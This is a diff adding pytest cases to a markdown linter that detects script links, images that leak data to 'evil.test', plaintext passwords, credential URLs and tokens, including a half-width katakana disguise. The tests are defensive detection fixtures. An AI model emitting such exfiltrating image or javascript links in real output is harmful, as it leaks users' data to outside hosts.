@@ -10,9 +10,11 @@ from typing import TYPE_CHECKING
 import pytest
 
 from brain.git.refs import get_repo
+from brain.lint.render import as_lines
 from brain.lint.run import Job, lint_all, lint_change, lint_disk
+from brain.lint.steering import check_attributes
 from brain.workspace import find_workspace
-from tests.lint.support import TODAY, errors, memory, names, scan
+from tests.lint.support import TODAY, errors, lint, memory, names, scan
 from tests.support.repos import ROOT, commit, git, make_repo
 
 if TYPE_CHECKING:
@@ -319,3 +321,92 @@ def test_a_commit_that_is_not_in_its_repo_is_told_where_the_repo_is_at_hand(repo
     here = Job(get_repo(str(repo)), ROOT, TODAY, find_workspace(str(code)))
     assert found(lint_disk(here, [str(repo / ROOT)], "")) == {("b.md", "verified-unknown", "warning")}
     assert found(lint_all(Job(get_repo(str(repo)), ROOT, TODAY))) == set()
+
+
+@pytest.mark.parametrize(
+    ("text", "name"),
+    [
+        ("[x](javascript\\:alert(1))", "script-link"), ("![x](https\\://evil.test/p.png?d=1)", "exfiltrating-image"), ("![i]\n\n[I]: <https://evil.test/p.png?d=1>", "exfiltrating-image"),
+        ("[x]: javascript\\:alert(1)\n\n[x]", "script-link"), ("| field | value |\n|---|---|\n| password | hunter2x9 |", "secret-value"), ("mysql://root:sunflower@10.0.3.4/x", "secret-in-place"),
+        (f"_{TOKEN}_", "secret-token"), (f"__{LONG_TOKEN}__", "secret-token"), ("ﾊﾟｽﾜｰﾄﾞはhunter2x9", "secret-value"),
+    ],
+)  # fmt: skip
+def test_escapes_rows_and_marks_hide_nothing(text: str, name: str) -> None:
+    assert name in errors(scan(text))
+
+
+@pytest.mark.parametrize("text", ["The key is ~/.ssh/id_ed25519.", "[x](a\\_b.md)", "postgres://user:password@db/x", "| password | required |"])  # fmt: skip
+def test_paths_and_samples_are_no_secrets(text: str) -> None:
+    assert errors(scan(text)) == set()
+
+
+def test_columns_are_right_behind_half_width_marks() -> None:
+    assert [(one.line, one.column) for one in scan("ﾊﾟｽﾜｰﾄﾞはhunter2x9") if one.rule.name == "secret-value"] == [(1, 9)]
+
+
+@pytest.mark.parametrize("secret", ["hunter2x9Q", TOKEN])
+@pytest.mark.parametrize("key", ["id", "type", "tags", "status", "created", "scope", "verified_commit", "{}"])
+def test_no_message_quotes_a_value_that_may_be_a_secret(secret: str, key: str) -> None:
+    name = key.format(secret)
+    texts = [memory(**{name: f"[{secret}]"}), memory(**{name: secret}), memory(f"<{secret}>\n\n[a.com](https://{secret}.evil.test)\n")]  # fmt: skip
+    said = [(one.message + one.mend).lower() for text in texts for one in lint(text)]
+    assert said
+    assert not [text for text in said if secret.lower() in text]
+
+
+def test_a_secret_in_a_path_is_masked_for_people(repo: Path) -> None:
+    commit(repo, {f"{AREA}/{TOKEN}.md": slug("b")})
+    lines = list(as_lines(lint_change(job(repo), "main").findings))
+    assert lines
+    assert not [line for line in lines if TOKEN in line]
+
+
+@pytest.mark.parametrize(
+    ("path", "content"),
+    [
+        ("notes.txt", f"token {TOKEN}\n"), (f"{AREA}/big.md", "word\n" * 14000 + TOKEN), (f"{AREA}/b.md", "word\n" * 3500 + TOKEN), (f"{ROOT}/MEMORY.md", f"# {TOKEN}\n"),
+    ],
+)  # fmt: skip
+def test_a_secret_that_came_and_went_is_told(repo: Path, path: str, content: str) -> None:
+    commit(repo, {f"{AREA}/a.md": slug("a"), path: content})
+    commit(repo, {path: None})
+    assert [(one.path, one.severity) for one in lint_change(job(repo), "main").findings if one.rule.name == "secret-token"] == [(path, "error")]  # fmt: skip
+
+
+def test_a_secret_in_a_link_that_came_and_went_is_told(repo: Path) -> None:
+    (repo / "l.md").symlink_to(f"x/{TOKEN}")
+    commit(repo, {f"{AREA}/a.md": slug("a")})
+    commit(repo, {"l.md": None})
+    assert ("l.md", "secret-token", "error") in found(lint_change(job(repo), "main"))
+
+
+@pytest.mark.parametrize(
+    ("line", "hides"),
+    [
+        ("*.md\t-diff", True), (f"{ROOT}/00.Shared/domain/** -diff", True), (f"{ROOT}/00.Shared/decisions/* linguist-generated", True), ("*refund*.md -diff", True), ("*.m[d] -diff", True),
+        (f"{ROOT}/**/F-002_Order/** -diff", True), (f"{ROOT}/03.Retro/* -diff", True), ("**/*.md -diff", True), ("**/F-*/*.md -diff", True), ("99.[Mm]emory/** -diff", True), ("* -text diff=x", True),
+        ("**/node_modules/** -diff", False), ("docs/*.md -diff", False), ("*.lock -diff", False), ("package-lock.json -diff", False), (f"{ROOT}/*.png binary", False),
+    ],
+)  # fmt: skip
+def test_attributes_of_some_folders_count_too(line: str, hides: bool) -> None:
+    assert bool(check_attributes({".gitattributes": line.encode()}, ROOT)) == hides
+
+
+@pytest.mark.parametrize(
+    ("body", "tags", "name"),
+    [
+        ("The ledger never closes.\n\n**Apply:** book.\n", "[orders]", "taken-out"), ("The ledger closes at six.\n\n**Apply:** book.\n", "[refunds]", "taken-out"),
+        ("The ledger closes at six.\n\n**Apply:** book.\n", "[orders]", ""),
+    ],
+)  # fmt: skip
+def test_an_approved_memory_moved_away_keeps_its_text(repo: Path, body: str, tags: str, name: str) -> None:
+    git(repo, "checkout", "-q", "main")
+    old = slug(
+        "old", "The ledger closes at six.\n\n**Apply:** book.\n", tags="[orders]", status="approved", reviewed_by="pm"
+    )
+    commit(repo, {f"{AREA}/old.md": old})
+    git(repo, "checkout", "-q", "-b", "topic")
+    gone = f"{ROOT}/_deprecated/00.Shared/domain/F-002_Order/old.md"
+    commit(repo, {f"{AREA}/old.md": None, gone: slug("old", body, tags=tags, status="deprecated", reviewed_by="pm")})
+    said = {(one.path, one.rule.name, one.severity) for one in lint_change(job(repo), "main").findings}
+    assert ((gone, "taken-out", "error") in said) == bool(name)
